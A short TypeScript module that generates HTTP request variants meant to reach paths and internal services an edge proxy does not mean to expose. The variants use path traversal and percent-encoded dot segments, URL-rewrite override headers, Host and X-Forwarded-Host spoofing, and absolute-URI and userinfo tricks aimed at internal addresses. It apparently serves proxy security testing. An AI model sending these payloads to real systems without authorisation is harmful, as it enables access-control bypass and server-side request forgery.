// Ways to ask an edge for something that it does not mean to serve.

export interface Trick {
  /** The request target as it is sent. */
  target: string;
  headers: Record<string, string>;
}

const traversals = [
  (path: string) => path,
  (path: string) => `/${path}`,
  (path: string) => `/.${path}`,
  (path: string) => `/;${path}`,
  (path: string) => `/%2e%2e${path}`,
  (path: string) => `/api/users/..${path}`,
  (path: string) => `/api/../..${path}`,
  (path: string) => `/api/users/%2e%2e/%2e%2e${path}`,
  (path: string) => `/api/posts/..%2f..%2f..${path.replaceAll('/', '%2f')}`,
  (path: string) => `/forum/../..${path}`,
  (path: string) => `/forum/%2e%2e/%2e%2e/%2e%2e/%2e%2e${path}`,
  (path: string) => `/forum/..%2f..%2f..%2f..${path.replaceAll('/', '%2f')}`,
  (path: string) => `${path}/`,
  (path: string) => `${path}?x=/api/users`,
  (path: string) => path.toUpperCase(),
];

/** Requests for `path` of whoever listens at one of these internal addresses (`users:9090`). */
export function tricks(path: string, authorities: readonly string[]): Trick[] {
  const plain = traversals.map((target) => ({ target: target(path), headers: {} }));
  const overrides = ['x-original-url', 'x-rewrite-url', 'x-forwarded-path'].map((name) => ({
    target: '/api/users',
    headers: { [name]: path },
  }));
  const redirected = authorities.flatMap((authority): Trick[] => [
    { target: `http://${authority}${path}`, headers: {} },
    { target: `http://${authority}/api/users/../..${path}`, headers: { host: authority } },
    { target: path, headers: { host: authority } },
    { target: path, headers: { 'x-forwarded-host': authority } },
    { target: `/api/users@${authority}${path}`, headers: {} },
    { target: `//${authority}${path}`, headers: {} },
  ]);
  return [...plain, ...overrides, ...redirected];
}
